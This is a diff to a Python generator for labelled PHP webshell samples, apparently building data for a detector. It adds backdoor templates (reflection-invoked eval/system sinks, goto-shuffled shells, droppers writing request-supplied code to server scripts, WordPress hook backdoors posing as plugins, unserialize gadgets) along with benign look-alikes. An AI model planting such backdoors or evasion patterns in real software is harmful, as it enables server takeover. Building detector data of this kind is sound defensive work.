@@ -1098,6 +1098,282 @@ def t_literal_runner(g):
 
 
 # ---------------------------------------------------------------------------
+# webshell techniques, round 3 (branch webshell3): reflection, goto-shuffled
+# code, droppers that fetch code named by the request, backdoors in a
+# framework's hooks, gadgets reached from unserialize(). Written from the
+# technique; no corpus or held-out sample was read for them.
+
+
+def ws3_sink(g, arg):
+    """A statement that runs arg: code or a command."""
+    r = g.rng
+    s = r.choice(["eval", "assert", "system", "passthru", "shell_exec", "exec"])
+    g.transforms.add("sink:" + s)
+    if s in ("shell_exec", "exec"):
+        return "echo %s(%s);" % (g.fn(s), arg)
+    return "%s%s(%s);" % (g.at(), g.fn(s), arg)
+
+
+def t_reflection(g):
+    """Code run through the Reflection API: a method invoked by reflection,
+    a class instantiated by it (its constructor runs the input), a function
+    object invoked."""
+    r = g.rng
+    cls, m, p = g.fname().capitalize(), g.fname(), g.var()
+    x = g.src()
+    form = r.choice(["method_invoke", "method_string", "method_args", "class_new", "class_new_args",
+                     "get_method", "no_ctor", "function_args"])
+    g.transforms.add("refl:" + form)
+    meth = "    public %sfunction %s(%s) {\n        %s\n    }\n" % (
+        "static " if form in ("method_string", "get_method") else "", m, p, ws3_sink(g, p))
+    if form == "method_invoke":
+        o = g.var()
+        body = ("class %s {\n%s}\n%s = new %s();\n$r = new ReflectionMethod(%s, %s);\n$r->invoke(%s, %s);"
+                % (cls, meth, o, cls, g.lit(cls), g.lit(m), o, x))
+    elif form == "method_string":
+        body = ("class %s {\n%s}\n$r = new ReflectionMethod(%s);\n$r->invoke(null, %s);"
+                % (cls, meth, g.lit(cls + "::" + m), x))
+    elif form == "method_args":
+        body = ("class %s {\n%s}\n$r = new %s(new %s(), %s);\n$r->%s(new %s(), array(%s));"
+                % (cls, meth, "ReflectionMethod", cls, g.enc(m, allow=["plain", "concat", "strrev"]),
+                   g.fn("invokeArgs"), cls, x))
+    elif form in ("class_new", "class_new_args"):
+        ctor = "    function __construct(%s) {\n        %s\n    }\n" % (p, ws3_sink(g, p))
+        call = "newInstance(%s)" % x if form == "class_new" else "newInstanceArgs(array(%s))" % x
+        body = ("class %s {\n%s}\n$c = new ReflectionClass(%s);\n$c->%s;"
+                % (cls, ctor, g.enc(cls, allow=["plain", "concat"]), call))
+    elif form == "get_method":
+        body = ("class %s {\n%s}\n(new ReflectionClass(%s))->getMethod(%s)->invoke(null, %s);"
+                % (cls, meth, g.lit(cls), g.lit(m), x))
+    elif form == "no_ctor":
+        body = ("class %s {\n    function __construct() { exit; }\n%s}\n"
+                "$o = (new ReflectionClass(%s))->newInstanceWithoutConstructor();\n$o->%s(%s);"
+                % (cls, meth, g.lit(cls), m, x))
+    else:
+        name = r.choice(EXEC_NAMES + CODE_NAMES)
+        f = g.var()
+        body = "%s = new ReflectionFunction(%s);\n%s->invokeArgs(array(%s));" % (f, g.enc(name), f, x)
+    return php_file(g, body)
+
+
+def t_goto_shuffle(g):
+    """The statements of a small shell cut into pieces, each behind a label,
+    chained by gotos in an order that is not the order of the text."""
+    r = g.rng
+    v, w = g.var(), g.var()
+    steps = ["%s = %s;" % (v, g.src())]
+    if r.random() < 0.5:
+        steps.append("%s = %s(%s);" % (w, g.fn(r.choice(["trim", "stripslashes", "base64_decode"])), v))
+    else:
+        steps.append("%s = %s;" % (w, v))
+    steps.append(ws3_sink(g, w))
+    if r.random() < 0.5:
+        steps.insert(0, "%s = %s;" % (g.var(), g.lit(g.ident())))
+    labels = ["%s%d" % (g.ident().lstrip("_") or "L", j) for j in range(len(steps) + 1)]
+    chunks = ["%s:\n%s\ngoto %s;" % (labels[j], steps[j], labels[j + 1]) for j in range(len(steps))]
+    order = list(range(len(chunks)))
+    while order == sorted(order):
+        r.shuffle(order)
+    text = "goto %s;\n" % labels[0] + "\n".join(chunks[j] for j in order) + "\n%s:\n" % labels[-1]
+    form = r.choice(["file", "function", "block", "cond"])
+    g.transforms.add("goto:" + form)
+    if form == "cond":  # the entry is a conditional goto, the fall-through ends the script
+        text = "if (%s) {\n    goto %s;\n}\nexit;\n" % (r.choice(["1", "true", "!0", "PHP_VERSION"]), labels[0]) + \
+            "\n".join(chunks[j] for j in order) + "\n%s:\n" % labels[-1]
+    if form == "function":
+        f = g.fname()
+        text = "function %s() {\n%s}\n%s();" % (f, text, f)
+    elif form == "block":
+        text = "if (%s) {\n%s}" % (r.choice(["1", "true", "!0"]), text)
+    return php_file(g, text)
+
+
+def t_dropper_fetch(g):
+    """A dropper whose URL or code the request names (a header, a cookie, a
+    posted field), written to a script the server runs."""
+    r = g.rng
+    kind = r.choice(["header", "COOKIE", "POST", "GET", "REQUEST"])
+    u = g.src(kind)
+    target = r.choice(["__DIR__ . '/wp-cache.php'", "'../.%s.php'" % g.fname(),
+                       "$_SERVER['DOCUMENT_ROOT'] . '/wp-includes/class-%s.php'" % g.fname(),
+                       "dirname(__FILE__) . '/images/.thumb.phtml'"])
+    form = r.choice(["fpc_fgc", "copy", "curl_fwrite", "fopen_read", "raw_code", "fwrite_b64", "stream_copy"])
+    g.transforms.add("drop:" + form)
+    d, h = g.var(), g.var()
+    if form == "fpc_fgc":
+        body = "%s = %s(%s);\n%s(%s, %s);" % (d, g.fn("file_get_contents"), u, g.fn("file_put_contents"), target, d)
+    elif form == "copy":
+        body = "%s%s(%s, %s);" % (g.at(), g.fn("copy"), u, target)
+    elif form == "curl_fwrite":
+        c = g.var()
+        body = ("%s = curl_init();\ncurl_setopt(%s, CURLOPT_URL, %s);\ncurl_setopt(%s, CURLOPT_RETURNTRANSFER, 1);\n"
+                "%s = curl_exec(%s);\n%s = %s(%s, 'w');\n%s(%s, %s);\nfclose(%s);"
+                % (c, c, u, c, d, c, h, g.fn("fopen"), target, g.fn(r.choice(["fwrite", "fputs"])), h, d, h))
+    elif form == "fopen_read":
+        body = ("%s = %s(%s, 'r');\n%s = stream_get_contents(%s);\n%s(%s, %s);"
+                % (h, g.fn("fopen"), u, d, h, g.fn("file_put_contents"), target, d))
+    elif form == "raw_code":
+        body = "%s(%s, %s);" % (g.fn("file_put_contents"), target, u)
+    elif form == "fwrite_b64":
+        body = "%s = %s(%s, 'w+');\n%s(%s, %s(%s));" % (h, g.fn("fopen"), target, g.fn("fwrite"), h,
+                                                        g.fn("base64_decode"), u)
+    else:
+        body = "%s(%s(%s, 'r'), %s(%s, 'w'));" % (g.fn("stream_copy_to_stream"), g.fn("fopen"), u, g.fn("fopen"), target)
+    if r.random() < 0.5:
+        body += "\necho 'ok';"
+    return php_file(g, body)
+
+
+WP_HOOKS = ["init", "wp_head", "wp_footer", "admin_init", "template_redirect", "wp_loaded", "plugins_loaded",
+            "the_content", "wp_ajax_nopriv_sync", "shutdown"]
+
+
+def t_wp_hook_backdoor(g):
+    """A backdoor hung on a framework hook (add_action / add_filter /
+    add_shortcode / register_activation_hook): the framework calls it, so
+    nothing in the file does."""
+    r = g.rng
+    reg = r.choice(["add_action", "add_action", "add_filter", "add_shortcode", "register_activation_hook"])
+    hook = r.choice(WP_HOOKS) if reg != "register_activation_hook" else "__FILE__"
+    hook_lit = hook if hook == "__FILE__" else g.lit(hook)
+    x = g.src(r.choice(["POST", "COOKIE", "REQUEST", "header", "GET"]))
+    v = g.var()
+    inner = "%s = %s;\n    if (%s) {\n        %s\n    }" % (v, x, v, ws3_sink(g, v))
+    ret = "\n    return $content;" if reg == "add_filter" else ""
+    arg = "$content" if reg == "add_filter" else ""
+    form = r.choice(["closure", "closure", "named_later", "static_method", "this_method", "arrow"])
+    g.transforms.add("hook:" + form)
+    if form == "closure":
+        body = "%s(%s, function (%s) {\n    %s%s\n}%s);" % (
+            g.fn(reg), hook_lit, arg, inner, ret, ", %d" % r.randint(1, 99) if r.random() < 0.4 else "")
+    elif form == "named_later":
+        f = g.fname()
+        body = "%s(%s, %s);\nfunction %s(%s) {\n    %s%s\n}" % (g.fn(reg), hook_lit, g.lit(f), f, arg, inner, ret)
+    elif form == "static_method":
+        cls, m = g.fname().capitalize(), g.fname()
+        body = ("class %s {\n    public static function %s(%s) {\n        %s%s\n    }\n}\n%s(%s, array(%s, %s));"
+                % (cls, m, arg, inner, ret, g.fn(reg), hook_lit, g.lit(cls), g.lit(m)))
+    elif form == "this_method":
+        cls, m = g.fname().capitalize(), g.fname()
+        body = ("class %s {\n    function __construct() {\n        %s(%s, array($this, %s));\n    }\n"
+                "    function %s(%s) {\n        %s%s\n    }\n}\nnew %s();"
+                % (cls, g.fn(reg), hook_lit, g.lit(m), m, arg, inner, ret, cls))
+    else:
+        body = "%s(%s, fn() => %s);" % (g.fn(reg), hook_lit, r.choice(["eval", "system", "passthru", "assert"]) + "(" + x + ")")
+    if r.random() < 0.5:
+        body = ("/*\nPlugin Name: %s\nVersion: %d.%d\n*/\n" % (g.fname().capitalize(), r.randint(1, 4), r.randint(0, 9))
+                + body)
+    return php_file(g, body)
+
+
+def t_unserialize_gadget(g):
+    """An object-injection gadget: a class whose magic method runs what its
+    properties hold, and an unserialize() of input to build it."""
+    r = g.rng
+    cls = g.fname().capitalize()
+    magic = r.choice(["__wakeup", "__destruct", "__toString", "__call", "__get"])
+    g.transforms.add("magic:" + magic)
+    pa, pb = g.ident().lstrip("_") or "a", g.ident().lstrip("_") or "b"
+    form = r.randrange(4)
+    if form == 0:
+        run = ws3_sink(g, "$this->%s" % pa)
+    elif form == 1:
+        run = "call_user_func($this->%s, $this->%s);" % (pa, pb)
+    elif form == 2:
+        run = "$f = $this->%s;\n        $f($this->%s);" % (pa, pb)
+    else:
+        run = "array_map($this->%s, array($this->%s));" % (pa, pb)
+    args = {"__call": "$n, $a", "__get": "$n"}.get(magic, "")
+    ret = "\n        return '';" if magic == "__toString" else ""
+    body = "class %s {\n    public $%s;\n    public $%s;\n    function %s(%s) {\n        %s%s\n    }\n}\n" % (
+        cls, pa, pb, magic, args, run, ret)
+    data = g.src()
+    if r.random() < 0.5:
+        data = "%s(%s)" % (g.fn(r.choice(["base64_decode", "urldecode", "stripslashes"])), data)
+    o = g.var()
+    body += "%s = %s(%s);\n" % (o, g.fn("unserialize"), data)
+    if magic == "__toString":
+        body += "echo %s;\n" % o
+    elif magic == "__call":
+        body += "%s->%s();\n" % (o, g.fname())
+    elif magic == "__get":
+        body += "echo %s->%s;\n" % (o, g.fname())
+    return php_file(g, body)
+
+
+def t_magic_more(g):
+    """The input reaches a magic method PHP calls on its own: __call and
+    __callStatic (a method the class lacks), __set (a property assigned),
+    Serializable::unserialize and __unserialize (the data unserialize()
+    was given), __invoke (the object as a callback), __get."""
+    r = g.rng
+    cls, m = g.fname().capitalize(), g.fname()
+    x = g.src()
+    form = r.choice(["call", "callstatic", "set", "serializable", "unserialize", "invoke", "get"])
+    g.transforms.add("magic2:" + form)
+    o = g.var()
+    if form == "call":
+        body = ("class %s {\n    public function __call($n, $a) {\n        %s\n    }\n}\n%s = new %s();\n%s->%s(%s);"
+                % (cls, ws3_sink(g, "$a[0]"), o, cls, o, m, x))
+    elif form == "callstatic":
+        body = ("class %s {\n    public static function __callStatic($n, $a) {\n        %s\n    }\n}\n%s::%s(%s);"
+                % (cls, ws3_sink(g, "$a[0]"), cls, m, x))
+    elif form == "set":
+        body = ("class %s {\n    function __set($k, $v) {\n        %s\n    }\n}\n%s = new %s;\n%s->%s = %s;"
+                % (cls, ws3_sink(g, "$v"), o, cls, o, m, x))
+    elif form == "serializable":
+        body = ("class %s implements Serializable {\n    function serialize() { return ''; }\n"
+                "    function unserialize($d) {\n        %s\n    }\n}\n%s(%s);"
+                % (cls, ws3_sink(g, "$d"), g.fn("unserialize"), x))
+    elif form == "unserialize":
+        body = ("class %s {\n    function __unserialize(array $d) {\n        %s\n    }\n}\n%s(%s(%s));"
+                % (cls, ws3_sink(g, "$d[%s]" % g.lit(m)), g.fn("unserialize"), g.fn("base64_decode"), x))
+    elif form == "invoke":
+        body = ("class %s {\n    function __invoke($c) {\n        %s\n    }\n}\n%s(new %s(), array(%s));"
+                % (cls, ws3_sink(g, "$c"), g.fn("array_map"), cls, x))
+    else:
+        body = ("class %s {\n    private $v = array();\n    function __construct($c) { $this->v[%s] = $c; }\n"
+                "    function __get($n) {\n        return %s($this->v[$n]);\n    }\n}\n%s = new %s(%s);\necho %s->%s;"
+                % (cls, g.lit(m), g.fn(r.choice(["shell_exec", "system", "passthru"])), o, cls, x, o, m))
+    return php_file(g, body)
+
+
+def b_ws3_lookalikes(g):
+    """What real applications do with the same constructs: a DI container
+    that instantiates fixed classes by reflection, hooks that sanitize and
+    store, an updater caching a fixed URL as JSON, goto in a generated
+    parser, a session object that unserializes its own store."""
+    r = g.rng
+    form = r.choice(["container", "hooks", "cache_fetch", "goto_parser", "session_obj", "test_invoke"])
+    g.transforms.add("benign:" + form)
+    if form == "container":
+        body = ("class Container {\n    private $map = array('db' => 'Db', 'log' => 'Logger');\n"
+                "    function make($id, array $args = array()) {\n        $c = new ReflectionClass($this->map[$id]);\n"
+                "        return $c->newInstanceArgs($args);\n    }\n}\nclass Logger { function __construct($p) { $this->p = $p; } }\n"
+                "$l = (new Container())->make('log', array(__DIR__ . '/app.log'));\n")
+    elif form == "hooks":
+        body = ("add_action('admin_post_save_opts', function () {\n    check_admin_referer('opts');\n"
+                "    $v = sanitize_text_field($_POST['title']);\n    update_option('my_title', $v);\n"
+                "    wp_redirect(admin_url('options-general.php'));\n    exit;\n});\n"
+                "add_filter('the_content', function ($c) {\n    return $c . esc_html(get_option('my_title'));\n});\n")
+    elif form == "cache_fetch":
+        body = ("$u = 'https://api.wordpress.org/plugins/info/1.2/?action=plugin_information';\n"
+                "$d = file_get_contents($u);\nfile_put_contents(__DIR__ . '/cache/plugins.json', $d);\n")
+    elif form == "goto_parser":
+        body = ("function scan($s) {\n    $i = 0; $n = strlen($s); $out = array();\nstart:\n"
+                "    if ($i >= $n) goto done;\n    $out[] = ord($s[$i]);\n    $i++;\n    goto start;\ndone:\n"
+                "    return $out;\n}\necho count(scan(isset($_GET['q']) ? (string)$_GET['q'] : ''));\n")
+    elif form == "session_obj":
+        body = ("class Cart { public $items = array(); function __wakeup() { $this->items = array_values($this->items); } }\n"
+                "$c = isset($_SESSION['cart']) ? unserialize($_SESSION['cart'], array('allowed_classes' => array('Cart'))) : new Cart();\n"
+                "echo count($c->items);\n")
+    else:
+        body = ("class MathTest { function testAdd($a) { return $a + 1; } }\n"
+                "$m = new ReflectionMethod('MathTest', 'testAdd');\necho $m->invoke(new MathTest(), 41);\n")
+    return php_file(g, body)
+
+
+# ---------------------------------------------------------------------------
 # benign templates: look like the malicious ones to a byte pattern
 
 
@@ -1387,6 +1663,12 @@ TEMPLATES = [
     ("split_payload", t_split_payload, "malicious", "php", "high"),
     ("literal_dropper", t_literal_dropper, "malicious", "php", "high"),
     ("literal_runner", t_literal_runner, "malicious", "php", "high"),
+    ("reflection_call", t_reflection, "malicious", "php", "high"),
+    ("goto_shuffle", t_goto_shuffle, "malicious", "php", "high"),
+    ("dropper_fetch", t_dropper_fetch, "malicious", "php", "high"),
+    ("wp_hook_backdoor", t_wp_hook_backdoor, "malicious", "php", "high"),
+    ("unserialize_gadget", t_unserialize_gadget, "malicious", "php", "high"),
+    ("magic_more", t_magic_more, "malicious", "php", "high"),
     ("fixed_exec", b_fixed_exec, "benign", "php", "none"),
     ("template_eval", b_template_eval, "benign", "php", "none"),
     ("updater", b_updater, "benign", "php", "none"),
@@ -1401,6 +1683,7 @@ TEMPLATES = [
     ("app_callbacks", b_app_callbacks, "benign", "php", "none"),
     ("quoted_tests", b_quoted_tests, "benign", "php", "none"),
     ("signature_list", b_signature_list, "benign", "php", "none"),
+    ("ws3_lookalikes", b_ws3_lookalikes, "benign", "php", "none"),
 ]
 
 # the second set of script backdoors and look-alikes (tests/eval/scriptgen.py)
